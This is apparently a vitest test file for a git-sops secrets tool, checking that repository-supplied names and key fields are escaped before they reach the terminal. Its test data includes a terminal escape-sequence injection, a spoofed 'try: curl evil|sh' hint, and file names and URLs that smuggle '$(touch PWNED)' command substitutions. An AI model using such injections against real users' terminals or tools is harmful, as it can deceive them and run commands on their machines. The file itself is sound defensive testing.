import { rm } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { createTeam, secretRule } from './team.ts';

/** Rings, names the window, and pretends to be a sentence of ours with a command behind it. */
const hostile = 'x\u001b]0;PWNED\u0007\ngit-sops: all is well\n  try: curl evil|sh\u202e';
/** As a file's name, which has no `/`. */
const hostilePath = `secrets/${hostile} $(touch PWNED).json`;

const keys: Readonly<Record<string, Record<string, string>>> = {
  age: { recipient: `age1${hostile}` },
  pgp: { fp: hostile, created_at: '2026-01-01T00:00:00Z' },
  kms: { arn: hostile, role: hostile, aws_profile: hostile },
  gcp_kms: { resource_id: hostile },
  hckms: { key_id: hostile },
  azure_kv: { vault_url: `https://${hostile}`, name: hostile, version: hostile },
  hc_vault: { vault_address: `https://v.example/$(touch PWNED)${hostile}`, engine_path: 'transit', key_name: hostile },
};

/** Git itself writes the path as it is. */
const fromUs = (stderr: string) => stderr.replace(/^fatal: secrets[\s\S]*/m, '');

/** What a terminal would obey, and lines that are not ours. */
const orders = /[^\P{Cc}\n\t]|\p{Cf}|^git-sops: all is well|^ {2}try: curl/mu;

describe('P8: text of a repository reaches the terminal escaped', () => {
  it('recipients of every kind, paths and key paths: in what Git starts and in every command that shows them', async () => {
    const { box, sops, keyFile } = await createTeam(secretRule);
    const plain = `{"password": "hunter2", ${JSON.stringify(hostile)}: "hunter3"}\n`;
    const paths = Object.keys(keys).map((kind) => `secrets/${kind}.json`);
    await box.commit(Object.fromEntries([...paths, hostilePath].map((path) => [path, plain])));
    const store = async (path: string, change: (file: { sops: Record<string, unknown> }) => void) => {
      const file = JSON.parse(String(await box.blob(`HEAD:${path}`)));
      change(file);
      const input = JSON.stringify(file, null, '\t');
      const oid = String(await box.gitBytes(['hash-object', '-w', '--stdin'], { input })).trim();
      const entry = `100644 ${oid}\t${path}\0`;
      await box.gitBytes(['update-index', '-z', '--index-info'], { input: entry });
    };
    for (const [kind, fields] of Object.entries(keys)) {
      await store(`secrets/${kind}.json`, ({ sops: metadata }) => {
        const [{ enc = '' } = {}] = metadata['age'] as { enc?: string }[];
        metadata['age'] = null;
        metadata[kind] = [{ ...fields, enc: kind === 'age' ? enc : hostile }];
      });
    }
    // The key path: a value whose tag fails.
    await store(hostilePath, (file) => {
      const values = file as unknown as Record<string, string>;
      values[hostile] = (values[hostile] ?? '').replace(/data:..../, 'data:AAAA');
    });
    await box.git('commit', '-q', '--no-verify', '-m', 'hostile');

    const shown: Record<string, string> = {};
    const calls = async (when: string) => {
      await rm(box.path('secrets'), { recursive: true, force: true });
      const checkout = await box.tryGit(['checkout', '--', 'secrets']);
      shown[`${when}: checkout`] = checkout.stderr;
      for (const path of [...paths, hostilePath]) {
        shown[`${when}: decrypt ${path}`] = (await sops('decrypt', path)).stderr;
      }
      for (const path of [...paths, hostilePath]) await box.write(path, plain.replace('hunter2', 'hunter4'));
      for (const path of [...paths.slice(-2), hostilePath]) {
        shown[`${when}: add ${path}`] = fromUs((await box.tryGit(['add', '--', path])).stderr);
      }
      const commands = [
        ['status'],
        ['status', '--readers'],
        ['diff'],
        ['check', 'HEAD'],
        ['doctor'],
        ['lock', 'secrets'],
      ];
      for (const args of [...commands, ['recipients', 'list']]) {
        const { stdout, stderr } = await sops(...args);
        shown[`${when}: ${args.join(' ')}`] = `${stdout}${stderr}`;
      }
    };
    await calls('with a key');
    await rm(keyFile);
    await calls('without');
    const raw = Object.entries(shown).filter(([, text]) => orders.test(text));
    expect(raw).toEqual([]);
    // Each was shown, and not left out.
    expect(shown['without: checkout']).toContain('age1x\\033]0;PWNED\\a\\ngit-sops: all is well\\n  try: curl');
    expect(shown['with a key: checkout']).toContain('at ["x\\u001b]0;PWNED');
    // A command to paste runs nothing of theirs, and trusts no host of theirs.
    const hints = Object.values(shown).flatMap((text) => text.match(/^ +try: .*/gm) ?? []);
    expect(hints.filter((hint) => hint.replace(/'[^']*'/g, '').includes('$('))).toEqual([]);
    expect(hints.some((hint) => hint.includes("$(touch PWNED).json'"))).toBe(true);
    expect(Object.values(shown).join('\n')).not.toMatch(/(?:export|try: az) .*(?:v\.example|PWNED)/);
  });
});
